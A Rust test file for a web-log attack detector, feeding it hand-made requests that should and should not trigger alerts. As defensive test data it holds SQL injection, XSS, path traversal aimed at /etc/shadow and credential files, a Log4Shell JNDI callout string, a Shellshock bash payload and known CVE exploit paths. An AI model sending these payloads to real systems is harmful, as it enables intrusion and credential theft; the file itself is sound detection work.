//! Behaviour of every detector: a sequence that fires it and near misses that do not, built
//! from hand-made records (the parsers are tested on their own).

use std::borrow::Cow;

use super::*;

/// 2023-11-14T22:13:20Z, in microseconds.
const T0: i64 = 1_700_000_000_000_000;
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

/// One request, as a test writes it.
#[derive(Debug, Clone)]
struct Req {
    ip: Option<&'static str>,
    at_us: Option<i64>,
    method: &'static str,
    path: String,
    query: Option<String>,
    status: u16,
    user_agent: &'static str,
    host: Option<&'static str>,
    route: Option<u32>,
    unrouted_host: Option<&'static str>,
    country: Option<&'static str>,
}

/// A 200 GET for `/` from `ip`, `seconds` after [`T0`].
fn req(ip: &'static str, seconds: f64) -> Req {
    Req {
        ip: Some(ip),
        at_us: Some(T0 + (seconds * 1e6).round() as i64),
        method: "GET",
        path: "/".into(),
        query: None,
        status: 200,
        user_agent: CHROME,
        host: None,
        route: Some(1),
        unrouted_host: None,
        country: None,
    }
}

impl Req {
    fn method(mut self, method: &'static str) -> Self {
        self.method = method;
        self
    }
    fn path(mut self, path: impl Into<String>) -> Self {
        self.path = path.into();
        self
    }
    fn query(mut self, query: impl Into<String>) -> Self {
        self.query = Some(query.into());
        self
    }
    fn status(mut self, status: u16) -> Self {
        self.status = status;
        self
    }
    fn ua(mut self, user_agent: &'static str) -> Self {
        self.user_agent = user_agent;
        self
    }
    fn host(mut self, host: &'static str) -> Self {
        self.host = Some(host);
        self
    }
    fn route(mut self, route: Option<u32>) -> Self {
        self.route = route;
        self
    }
    fn unrouted(mut self, host: &'static str) -> Self {
        self.unrouted_host = Some(host);
        self
    }
    fn country(mut self, country: &'static str) -> Self {
        self.country = Some(country);
        self
    }

    /// The line a test "read": combined format, for evidence assertions.
    fn line(&self) -> String {
        let target = match &self.query {
            Some(query) => format!("{}?{query}", self.path),
            None => self.path.clone(),
        };
        format!(
            "{} - - \"{} {target} HTTP/1.1\" {} 0 \"-\" \"{}\"",
            self.ip.unwrap_or("-"),
            self.method,
            self.status,
            self.user_agent
        )
    }

    fn record(&self) -> Record<'_> {
        Record {
            time_us: self.at_us,
            client_ip: self.ip.map(|ip| ip.parse().expect("test address")),
            method: Some(Cow::Borrowed(self.method)),
            path: Some(Cow::Borrowed(self.path.as_str())),
            query: self.query.as_deref().map(Cow::Borrowed),
            status: Some(self.status),
            user_agent: Some(Cow::Borrowed(self.user_agent)),
            host: self.host.map(Cow::Borrowed),
            ..Record::default()
        }
    }
}

fn classify(classifier: &Classifier, request: &Req) -> Option<Event> {
    let record = request.record();
    let line = request.line();
    classifier.classify(&Request {
        record: &record,
        line: &line,
        route: request.route,
        unrouted_host: request.unrouted_host,
        country: request.country,
    })
}

/// What a run produced: the alerts `observe` returned as they fired, and `finish`'s list.
struct Run {
    fired_now: Vec<Alert>,
    finished: Vec<Alert>,
}

fn run_with(config: &DetectorConfig, requests: &[Req]) -> Run {
    let classifier = Classifier::new(config).expect("valid config");
    let mut detectors = Detectors::new(config);
    let mut fired_now = Vec::new();
    for request in requests {
        if let Some(event) = classify(&classifier, request) {
            fired_now.extend(detectors.observe(&event));
        }
    }
    Run {
        fired_now,
        finished: detectors.finish(),
    }
}

fn run(requests: &[Req]) -> Run {
    run_with(&DetectorConfig::default(), requests)
}

/// The alerts of one detector in `finish`'s list.
fn alerts_of(run: &Run, detector: Detector) -> Vec<&Alert> {
    run.finished
        .iter()
        .filter(|alert| alert.detector == detector)
        .collect()
}

/// `n` requests from `ip`, `step` seconds apart from second `start`, each made by `make(i)`.
fn series(n: usize, start: f64, step: f64, make: impl Fn(usize, Req) -> Req) -> Vec<Req> {
    (0..n)
        .map(|i| make(i, req("203.0.113.5", start + step * i as f64)))
        .collect()
}

fn at(seconds: f64) -> i64 {
    T0 + (seconds * 1e6).round() as i64
}

// ---------------------------------------------------------------------------------------------
// The registry

#[test]
fn registry_names_are_the_public_interface() {
    let names: Vec<&str> = Detector::ALL.iter().map(|d| d.name()).collect();
    assert_eq!(
        names,
        [
            "brute-force",
            "path-probing",
            "sensitive-file-probe",
            "path-traversal-probe",
            "sqli-probe",
            "xss-probe",
            "bad-user-agent",
            "backdoor-probe",
            "admin-interface-probe",
            "cve-probe",
            "open-proxy-probe",
            "request-flood",
            "error-burst",
            "untrusted-source",
            "disallowed-country",
            "unrouted-host",
        ]
    );
    for &detector in Detector::ALL {
        assert_eq!(Detector::from_name(detector.name()), Some(detector));
        assert!(!detector.summary().is_empty());
    }
    assert_eq!(Detector::from_name("Brute-Force"), None);
    assert_eq!(Detector::from_name("sqli"), None);
}

#[test]
fn alerts_serialize_with_snake_case_fields_and_the_detector_name() {
    let alert = Alert {
        detector: Detector::CveProbe,
        source: "198.51.100.7".into(),
        route: Some(3),
        count: 1,
        first_us: 10,
        last_us: 20,
        evidence: vec!["line".into()],
        detail: Some("CVE-2021-41773".into()),
    };
    assert_eq!(
        serde_json::to_value(&alert).expect("serializes"),
        serde_json::json!({
            "detector": "cve-probe",
            "source": "198.51.100.7",
            "route": 3,
            "count": 1,
            "first_us": 10,
            "last_us": 20,
            "evidence": ["line"],
            "detail": "CVE-2021-41773"
        })
    );
}

// ---------------------------------------------------------------------------------------------
// brute-force

#[test]
fn brute_force_fires_on_the_sixth_failed_post_within_the_leak() {
    let requests = series(6, 0.0, 1.0, |_, r| {
        r.method("POST").path("/api/session").status(401)
    });
    let run = run(&requests);
    assert_eq!(run.fired_now.len(), 1);
    let alert = &run.finished[0];
    assert_eq!(run.finished.len(), 1);
    assert_eq!(alert.detector, Detector::BruteForce);
    assert_eq!(alert.source, "203.0.113.5");
    assert_eq!(alert.route, Some(1));
    assert_eq!(alert.count, 6);
    assert_eq!(alert.first_us, at(0.0));
    assert_eq!(alert.last_us, at(5.0));
    assert_eq!(
        alert.evidence,
        vec![requests[0].line(), requests[5].line()],
        "the line that started the fill and the one that overflowed it"
    );
    assert_eq!(alert.detail, None);
    assert_eq!(run.fired_now[0], *alert);
}

#[test]
fn brute_force_counts_403_and_configured_login_form_posts() {
    let forbidden = series(6, 0.0, 1.0, |_, r| {
        r.method("POST").path("/api/x").status(403)
    });
    assert_eq!(alerts_of(&run(&forbidden), Detector::BruteForce).len(), 1);
    // Form logins answer a wrong password with 200 or a redirect: counted only for the login
    // forms the config names.
    let form = series(6, 0.0, 1.0, |i, r| {
        r.method("POST")
            .path("/Account/SignIn")
            .status(if i % 2 == 0 { 200 } else { 302 })
    });
    assert!(alerts_of(&run(&form), Detector::BruteForce).is_empty());
    let mut config = DetectorConfig::default();
    config.extra_patterns.login_forms = vec!["/account/signin".into()];
    let run = run_with(&config, &form);
    let alerts = alerts_of(&run, Detector::BruteForce);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 6);
}

#[test]
fn brute_force_stays_quiet_at_capacity() {
    let five = series(5, 0.0, 0.1, |_, r| r.method("POST").status(401));
    assert!(run(&five).finished.is_empty());
}

#[test]
fn brute_force_stays_quiet_when_failures_are_slower_than_the_leak() {
    let slow = series(30, 0.0, 10.0, |_, r| r.method("POST").status(401));
    assert!(run(&slow).finished.is_empty());
}

#[test]
fn brute_force_ignores_successful_posts_and_failed_gets() {
    let posts = series(50, 0.0, 0.1, |_, r| {
        r.method("POST").path("/api/orders").status(201)
    });
    assert!(run(&posts).finished.is_empty());
    let gets = series(50, 0.0, 0.1, |_, r| r.path("/api/me").status(401));
    // Fifty 401 GETs are not brute force (they are not probing either: one path).
    assert!(alerts_of(&run(&gets), Detector::BruteForce).is_empty());
}

#[test]
fn brute_force_counts_each_source_separately() {
    let requests: Vec<Req> = (0..6)
        .map(|i| {
            let ip = if i % 2 == 0 {
                "203.0.113.5"
            } else {
                "203.0.113.6"
            };
            req(ip, f64::from(i)).method("POST").status(401)
        })
        .collect();
    assert!(run(&requests).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// Blackhole, merging, determinism

#[test]
fn blackhole_adds_later_matches_to_the_alert_instead_of_firing_again() {
    // 20 failures in 19 s: one overflow at the sixth, then 14 more inside the 60 s blackhole.
    let requests = series(20, 0.0, 1.0, |_, r| r.method("POST").status(401));
    let run = run(&requests);
    assert_eq!(run.fired_now.len(), 1);
    assert_eq!(run.fired_now[0].count, 6);
    assert_eq!(run.finished.len(), 1);
    let alert = &run.finished[0];
    assert_eq!(alert.count, 20);
    assert_eq!(alert.first_us, at(0.0));
    assert_eq!(alert.last_us, at(19.0));
    assert_eq!(
        alert.evidence,
        vec![requests[0].line(), requests[5].line(), requests[6].line()]
    );
}

#[test]
fn after_the_blackhole_the_source_fires_again_and_finish_merges_both() {
    let mut requests = series(6, 0.0, 1.0, |_, r| r.method("POST").status(401));
    // The overflow is at 5 s; the blackhole ends at 65 s.
    requests.extend(series(6, 70.0, 1.0, |_, r| r.method("POST").status(401)));
    let run = run(&requests);
    assert_eq!(run.fired_now.len(), 2, "{:#?}", run.fired_now);
    assert_eq!(run.fired_now[1].first_us, at(70.0));
    assert_eq!(run.finished.len(), 1);
    let alert = &run.finished[0];
    assert_eq!(alert.count, 12);
    assert_eq!(alert.first_us, at(0.0));
    assert_eq!(alert.last_us, at(75.0));
    assert_eq!(alert.evidence.len(), 3);
}

#[test]
fn blackhole_length_is_configurable() {
    let mut config = DetectorConfig::default();
    config.brute_force.blackhole_seconds = 5.0;
    let mut requests = series(6, 0.0, 1.0, |_, r| r.method("POST").status(401));
    requests.extend(series(6, 20.0, 1.0, |_, r| r.method("POST").status(401)));
    assert_eq!(run_with(&config, &requests).fired_now.len(), 2);
}

#[test]
fn same_input_gives_the_same_alerts_in_the_same_order() {
    let mut requests = Vec::new();
    for (n, ip) in ["198.51.100.9", "198.51.100.3", "203.0.113.77", "192.0.2.1"]
        .into_iter()
        .enumerate()
    {
        let start = 100.0 - 10.0 * n as f64;
        for i in 0..12 {
            requests.push(
                req(ip, start + f64::from(i) * 0.1)
                    .path(format!("/probe-{i}.php"))
                    .status(404),
            );
        }
        requests.push(
            req(ip, start + 2.0)
                .path("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")
                .status(404),
        );
    }
    requests.sort_by_key(|r| r.at_us);
    let first = run(&requests).finished;
    let second = run(&requests).finished;
    assert_eq!(first, second);
    // Sorted by first time, then detector: the source that started earliest comes first, and its
    // path-probing alert (its 11th 404 came first) precedes its cve-probe alert.
    let order: Vec<(&str, &str)> = first
        .iter()
        .map(|a| (a.detector.name(), a.source.as_str()))
        .collect();
    assert_eq!(
        order,
        [
            ("path-probing", "192.0.2.1"),
            ("cve-probe", "192.0.2.1"),
            ("path-probing", "203.0.113.77"),
            ("cve-probe", "203.0.113.77"),
            ("path-probing", "198.51.100.3"),
            ("cve-probe", "198.51.100.3"),
            ("path-probing", "198.51.100.9"),
            ("cve-probe", "198.51.100.9"),
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// path-probing

fn probe(i: usize, r: Req) -> Req {
    r.path(format!("/backup-{i}"))
        .status(404)
        .host("shop.example")
}

#[test]
fn path_probing_fires_on_eleven_distinct_missing_paths() {
    let requests = series(11, 0.0, 0.5, probe);
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::PathProbing);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].source, "203.0.113.5");
    assert_eq!(alerts[0].count, 11);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(5.0));
}

#[test]
fn path_probing_stays_quiet_at_ten_paths() {
    assert!(run(&series(10, 0.0, 0.5, probe)).finished.is_empty());
}

#[test]
fn path_probing_counts_a_repeated_path_once() {
    let requests = series(30, 0.0, 0.1, |_, r| {
        r.path("/missing").status(404).host("shop.example")
    });
    assert!(run(&requests).finished.is_empty());
}

#[test]
fn path_probing_ignores_static_resources() {
    let requests = series(30, 0.0, 0.1, |i, r| {
        r.path(format!("/img/product-{i}.png")).status(404)
    });
    assert!(run(&requests).finished.is_empty());
}

#[test]
fn path_probing_counts_per_host() {
    let requests = series(12, 0.0, 0.5, |i, r| {
        let host = if i % 2 == 0 { "a.example" } else { "b.example" };
        r.path(format!("/backup-{i}")).status(404).host(host)
    });
    assert!(run(&requests).finished.is_empty());
}

#[test]
fn path_probing_counts_400_and_403_but_not_200() {
    let refused = series(11, 0.0, 0.5, |i, r| {
        r.path(format!("/p{i}"))
            .status(if i % 2 == 0 { 400 } else { 403 })
    });
    assert_eq!(alerts_of(&run(&refused), Detector::PathProbing).len(), 1);
    let found = series(40, 0.0, 0.1, |i, r| r.path(format!("/p{i}")));
    assert!(run(&found).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// sensitive-file-probe

const SENSITIVE: [&str; 5] = [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/.aws/credentials",
    "/backup.sql",
];

#[test]
fn sensitive_file_probe_fires_on_five_distinct_files_whatever_the_status() {
    let requests = series(5, 0.0, 0.5, |i, r| {
        r.path(SENSITIVE[i]).status(if i == 0 { 200 } else { 404 })
    });
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::SensitiveFileProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 5);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(2.0));
}

#[test]
fn sensitive_file_probe_stays_quiet_at_four_files() {
    let requests = series(4, 0.0, 0.5, |i, r| r.path(SENSITIVE[i]).status(404));
    assert!(alerts_of(&run(&requests), Detector::SensitiveFileProbe).is_empty());
}

#[test]
fn sensitive_file_probe_counts_one_file_asked_again_and_again_once() {
    let requests = series(50, 0.0, 0.1, |_, r| r.path("/.env").status(403));
    assert!(alerts_of(&run(&requests), Detector::SensitiveFileProbe).is_empty());
}

#[test]
fn sensitive_file_probe_needs_the_entry_at_the_end() {
    let requests = series(10, 0.0, 0.1, |i, r| r.path(format!("/.env/docs/{i}")));
    assert!(run(&requests).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// path-traversal-probe

#[test]
fn path_traversal_probe_fires_on_four_distinct_attempts_in_path_or_query() {
    let requests = vec![
        req("203.0.113.5", 0.0)
            .path("/static/../../etc/passwd")
            .status(400),
        req("203.0.113.5", 1.0)
            .path("/download")
            .query("file=..%2F..%2Fetc%2Fshadow"),
        req("203.0.113.5", 2.0)
            .path("/%2e%2e/%2e%2e/windows/win.ini")
            .status(404),
        req("203.0.113.5", 3.0)
            .path("/img")
            .query("src=....//....//proc/self/environ"),
    ];
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::PathTraversalProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 4);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(3.0));
}

#[test]
fn path_traversal_probe_stays_quiet_at_three() {
    let requests = series(3, 0.0, 1.0, |i, r| {
        r.path("/download").query(format!("file=../{i}"))
    });
    assert!(run(&requests).finished.is_empty());
}

#[test]
fn path_traversal_probe_leaves_ordinary_dots_alone() {
    let requests = series(20, 0.0, 0.1, |i, r| {
        r.path(format!("/assets/app.{i}.min.js")).query("v=1.2.3")
    });
    assert!(run(&requests).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// sqli-probe

#[test]
fn sqli_probe_fires_on_eleven_distinct_injections_within_a_second_each() {
    let requests = series(11, 0.0, 0.05, |i, r| {
        r.path("/products")
            .query(format!("id={i}%27%20OR%201%3D1--"))
    });
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::SqliProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 11);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(0.5));
}

#[test]
fn sqli_probe_stays_quiet_when_slower_than_one_a_second() {
    let requests = series(40, 0.0, 1.1, |i, r| {
        r.path("/products")
            .query(format!("id={i}+UNION+SELECT+null--"))
    });
    assert!(alerts_of(&run(&requests), Detector::SqliProbe).is_empty());
}

#[test]
fn sqli_probe_ignores_search_as_you_type() {
    let text = "select+your+size+and+union+membership";
    let requests = series(text.len(), 0.0, 0.05, |i, r| {
        r.path("/search").query(format!("q={}", &text[..=i]))
    });
    assert!(run(&requests).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// xss-probe

#[test]
fn xss_probe_fires_on_six_distinct_payloads() {
    let requests = series(6, 0.0, 0.1, |i, r| {
        r.path("/search")
            .query(format!("q=%3Cscript%3Ealert({i})%3C/script%3E"))
    });
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::XssProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 6);
    assert_eq!(alerts[0].last_us, at(0.5));
}

#[test]
fn xss_probe_stays_quiet_at_five() {
    let requests = series(5, 0.0, 0.1, |i, r| {
        r.path("/search")
            .query(format!("q=<svg/onload=alert({i})>"))
    });
    assert!(alerts_of(&run(&requests), Detector::XssProbe).is_empty());
}

// ---------------------------------------------------------------------------------------------
// bad-user-agent

#[test]
fn bad_user_agent_fires_on_the_second_request_within_a_minute_and_names_the_tool() {
    let requests = series(2, 0.0, 30.0, |_, r| {
        r.ua("sqlmap/1.7.2#stable (https://sqlmap.org)")
    });
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::BadUserAgent);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 2);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(30.0));
    assert_eq!(alerts[0].detail.as_deref(), Some("UA: sqlmap"));
}

#[test]
fn bad_user_agent_lists_each_tool_of_a_merged_alert() {
    let requests = vec![
        req("203.0.113.5", 0.0).ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        req("203.0.113.5", 1.0).ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000002)"),
        req("203.0.113.5", 2.0).ua("Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    ];
    let run = run(&requests);
    assert_eq!(
        alerts_of(&run, Detector::BadUserAgent)[0].detail.as_deref(),
        Some("UA: nikto, nmap")
    );
}

#[test]
fn bad_user_agent_stays_quiet_for_one_request_or_a_slow_pair() {
    let one = vec![
        req("203.0.113.5", 0.0).ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ];
    assert!(run(&one).finished.is_empty());
    let slow = series(5, 0.0, 61.0, |_, r| r.ua("zgrab/0.x"));
    assert!(run(&slow).finished.is_empty());
}

#[test]
fn bad_user_agent_leaves_generic_clients_alone() {
    for ua in [
        "curl/8.4.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "kube-probe/1.29",
    ] {
        let requests = series(20, 0.0, 0.1, |_, r| r.ua(ua));
        assert!(run(&requests).finished.is_empty(), "{ua}");
    }
}

// ---------------------------------------------------------------------------------------------
// backdoor-probe

#[test]
fn backdoor_probe_fires_on_two_distinct_shells() {
    let requests = vec![
        req("203.0.113.5", 0.0)
            .path("/wp-content/uploads/c99.php")
            .status(404),
        req("203.0.113.5", 1.0).path("/WSO.php").status(404),
    ];
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::BackdoorProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 2);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(1.0));
}

#[test]
fn backdoor_probe_counts_one_shell_asked_twice_once_and_needs_the_exact_name() {
    let same = series(10, 0.0, 0.5, |_, r| r.path("/shell.php").status(404));
    assert!(alerts_of(&run(&same), Detector::BackdoorProbe).is_empty());
    let lookalikes = vec![
        req("203.0.113.5", 0.0).path("/myshell.php"),
        req("203.0.113.5", 0.5).path("/c99.php.txt"),
        req("203.0.113.5", 1.0).path("/shell.php/"),
    ];
    assert!(run(&lookalikes).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// admin-interface-probe

#[test]
fn admin_interface_probe_fires_on_three_refused_consoles() {
    let requests = vec![
        req("203.0.113.5", 0.0).path("/phpMyAdmin/").status(404),
        req("203.0.113.5", 2.0).path("/manager/html").status(403),
        req("203.0.113.5", 4.0)
            .path("/administrator/index.php")
            .status(404),
    ];
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::AdminInterfaceProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 3);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(4.0));
}

#[test]
fn admin_interface_probe_leaves_a_working_admin_page_alone() {
    let requests = series(30, 0.0, 0.5, |i, r| r.path(format!("/admin/orders/{i}")));
    assert!(run(&requests).finished.is_empty());
}

#[test]
fn admin_interface_probe_counts_one_refused_console_once() {
    let requests = series(10, 0.0, 0.5, |_, r| r.path("/admin").status(403));
    assert!(alerts_of(&run(&requests), Detector::AdminInterfaceProbe).is_empty());
}

// ---------------------------------------------------------------------------------------------
// cve-probe

#[test]
fn cve_probe_fires_on_the_first_refused_exploit_uri_and_names_the_cve() {
    let requests = vec![
        req("203.0.113.5", 0.0)
            .path("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")
            .status(404),
    ];
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::CveProbe);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 1);
    assert_eq!(alerts[0].first_us, at(0.0));
    assert_eq!(alerts[0].last_us, at(0.0));
    assert_eq!(alerts[0].detail.as_deref(), Some("CVE-2017-9841"));
    assert_eq!(alerts[0].evidence, vec![requests[0].line()]);
}

#[test]
fn cve_probe_path_entries_need_a_403_or_404() {
    let requests = vec![
        req("203.0.113.5", 0.0)
            .path("/remote/fgt_lang")
            .query("lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ];
    assert!(alerts_of(&run(&requests), Detector::CveProbe).is_empty());
}

#[test]
fn cve_probe_any_entries_fire_whatever_the_status_and_wherever_they_are() {
    let requests = vec![
        req("198.51.100.1", 0.0).ua("${jndi:ldap://198.51.100.1:1389/a}"),
        req("198.51.100.2", 0.0)
            .path("/")
            .query("x=%24%7Bjndi:ldap://x/a%7D"),
        req("198.51.100.3", 0.0).ua("() { :; }; /bin/bash -c 'id'"),
    ];
    let run = run(&requests);
    let details: Vec<(&str, Option<&str>)> = alerts_of(&run, Detector::CveProbe)
        .iter()
        .map(|a| (a.source.as_str(), a.detail.as_deref()))
        .collect();
    assert_eq!(
        details,
        [
            ("198.51.100.1", Some("CVE-2021-44228")),
            ("198.51.100.2", Some("CVE-2021-44228")),
            ("198.51.100.3", Some("CVE-2014-6271")),
        ]
    );
}

#[test]
fn cve_probe_blackhole_merges_a_scan_of_several_cves_into_one_alert() {
    let requests = vec![
        req("203.0.113.5", 0.0)
            .path("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")
            .status(400),
        req("203.0.113.5", 1.0)
            .path("/cgi-bin/.%2e/.%2e/bin/sh")
            .status(403),
        req("203.0.113.5", 2.0)
            .path("/mgmt/tm/util/bash")
            .status(404),
    ];
    let run = run(&requests);
    let alerts = alerts_of(&run, Detector::CveProbe);
    assert_eq!(
        run.fired_now
            .iter()
            .filter(|a| a.detector == Detector::CveProbe)
            .count(),
        1
    );
    assert_eq!(alerts.len(), 1);
    // The 400 is not a 403/404, so the first line did not count.
    assert_eq!(alerts[0].count, 2);
    assert_eq!(alerts[0].first_us, at(1.0));
    assert_eq!(
        alerts[0].detail.as_deref(),
        Some("CVE-2021-41773, CVE-2022-1388")
    );
}

// ---------------------------------------------------------------------------------------------
// open-proxy-probe

#[test]
fn open_proxy_probe_fires_on_a_rejected_connect_or_absolute_url() {
    let requests = vec![
        req("198.51.100.1", 0.0)
            .method("CONNECT")
            .path("www.example.com:443")
            .status(400),
        req("198.51.100.2", 0.0)
            .path("http://www.example.com/")
            .status(405),
    ];
    let run = run(&requests);
    let sources: Vec<&str> = alerts_of(&run, Detector::OpenProxyProbe)
        .iter()
        .map(|a| a.source.as_str())
        .collect();
    assert_eq!(sources, ["198.51.100.1", "198.51.100.2"]);
}

#[test]
fn open_proxy_probe_leaves_accepted_or_ordinary_requests_alone() {
    let requests = vec![
        req("198.51.100.1", 0.0)
            .method("CONNECT")
            .path("www.example.com:443"),
        req("198.51.100.2", 0.0).path("/http-guide").status(400),
        req("198.51.100.3", 0.0)
            .method("OPTIONS")
            .path("/api")
            .status(405),
    ];
    assert!(alerts_of(&run(&requests), Detector::OpenProxyProbe).is_empty());
}

// ---------------------------------------------------------------------------------------------
// request-flood and error-burst

fn minute(route: u32, minute: i64, requests: u64) -> MinuteStats {
    MinuteStats {
        route: Some(route),
        minute,
        requests,
        errors_5xx: 0,
        new_sources: 3,
        top_source: Some(("192.0.2.10".parse().expect("ip"), requests / 10)),
    }
}

/// Minutes since the epoch of [`T0`].
const M0: i64 = T0 / 60_000_000;

fn observe_minutes(config: &DetectorConfig, minutes: &[MinuteStats]) -> (Vec<Alert>, Vec<Alert>) {
    let mut detectors = Detectors::new(config);
    let mut fired = Vec::new();
    for stats in minutes {
        fired.extend(detectors.observe_minute(stats));
    }
    (fired, detectors.finish())
}

#[test]
fn request_flood_fires_on_a_minute_far_above_the_baseline() {
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 100)).collect();
    let mut flood = minute(4, M0 + 10, 3_000);
    flood.top_source = Some(("203.0.113.50".parse().expect("ip"), 2_900));
    minutes.push(flood);
    let (fired, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    assert_eq!(fired.len(), 1);
    let alert = &finished[0];
    assert_eq!(alert.detector, Detector::RequestFlood);
    assert_eq!(alert.source, "203.0.113.50");
    assert_eq!(alert.route, Some(4));
    assert_eq!(alert.count, 3_000);
    assert_eq!(alert.first_us, (M0 + 10) * 60_000_000);
    assert_eq!(alert.last_us, (M0 + 11) * 60_000_000 - 1);
    assert_eq!(
        alert.detail.as_deref(),
        Some("3,000 requests in the minute, threshold 500 (baseline 100.0/min)")
    );
}

#[test]
fn request_flood_stays_quiet_under_the_factor_or_the_floor() {
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 100)).collect();
    minutes.push(minute(4, M0 + 10, 480));
    assert!(
        observe_minutes(&DetectorConfig::default(), &minutes)
            .1
            .is_empty()
    );
    // A quiet route: 5 x baseline is tiny, but 250 requests is under the 300 floor.
    let mut quiet: Vec<MinuteStats> = (0..10).map(|m| minute(5, M0 + m, 2)).collect();
    quiet.push(minute(5, M0 + 10, 250));
    assert!(
        observe_minutes(&DetectorConfig::default(), &quiet)
            .1
            .is_empty()
    );
}

#[test]
fn request_flood_waits_for_the_warm_up() {
    let mut minutes: Vec<MinuteStats> = (0..4).map(|m| minute(4, M0 + m, 10)).collect();
    minutes.push(minute(4, M0 + 4, 5_000));
    assert!(
        observe_minutes(&DetectorConfig::default(), &minutes)
            .1
            .is_empty()
    );
}

#[test]
fn request_flood_fires_on_a_surge_of_new_addresses() {
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 200)).collect();
    let mut surge = minute(4, M0 + 10, 290);
    surge.new_sources = 1_204;
    minutes.push(surge);
    let (_, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    assert_eq!(finished.len(), 1);
    assert_eq!(finished[0].source, "1,204 new addresses");
    assert_eq!(
        finished[0].detail.as_deref(),
        Some("1,204 new addresses in the minute, threshold 100 (baseline 3.0/min)")
    );
}

#[test]
fn a_flood_that_goes_on_extends_one_alert() {
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 100)).collect();
    minutes.extend((10..13).map(|m| minute(4, M0 + m, 2_000)));
    let (fired, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    assert_eq!(fired.len(), 1, "one alert per episode");
    assert_eq!(finished.len(), 1);
    assert_eq!(finished[0].count, 6_000);
    assert_eq!(finished[0].first_us, (M0 + 10) * 60_000_000);
    assert_eq!(finished[0].last_us, (M0 + 13) * 60_000_000 - 1);
    assert_eq!(
        finished[0].detail.as_deref(),
        Some(
            "2,000 requests in the minute, threshold 500 (baseline 100.0/min); \
             lasted 3 minutes, peak 2,000 requests/min"
        )
    );
}

#[test]
fn a_flood_after_a_pause_fires_again_and_finish_merges_the_episodes() {
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 100)).collect();
    minutes.push(minute(4, M0 + 10, 2_000));
    minutes.push(minute(4, M0 + 11, 100));
    minutes.push(minute(4, M0 + 12, 2_000));
    let (fired, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    assert_eq!(fired.len(), 2);
    // Same detector, source text and route: one alert over both episodes.
    assert_eq!(finished.len(), 1);
    assert_eq!(finished[0].source, "3 new addresses");
    assert_eq!(finished[0].count, 4_000);
    assert_eq!(finished[0].first_us, (M0 + 10) * 60_000_000);
    assert_eq!(finished[0].last_us, (M0 + 13) * 60_000_000 - 1);
}

#[test]
fn error_burst_fires_on_a_minute_of_5xx_far_above_the_baseline() {
    let mut minutes: Vec<MinuteStats> = (0..10)
        .map(|m| MinuteStats {
            errors_5xx: 1,
            ..minute(2, M0 + m, 400)
        })
        .collect();
    minutes.push(MinuteStats {
        errors_5xx: 250,
        ..minute(2, M0 + 10, 400)
    });
    let (fired, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    assert_eq!(fired.len(), 1);
    let alert = &finished[0];
    assert_eq!(alert.detector, Detector::ErrorBurst);
    assert_eq!(alert.route, Some(2));
    assert_eq!(alert.count, 250);
    assert_eq!(alert.source, "3 new addresses");
    assert_eq!(
        alert.detail.as_deref(),
        Some("250 of 400 requests answered 5xx in the minute, threshold 20 (baseline 1.0/min)")
    );
}

#[test]
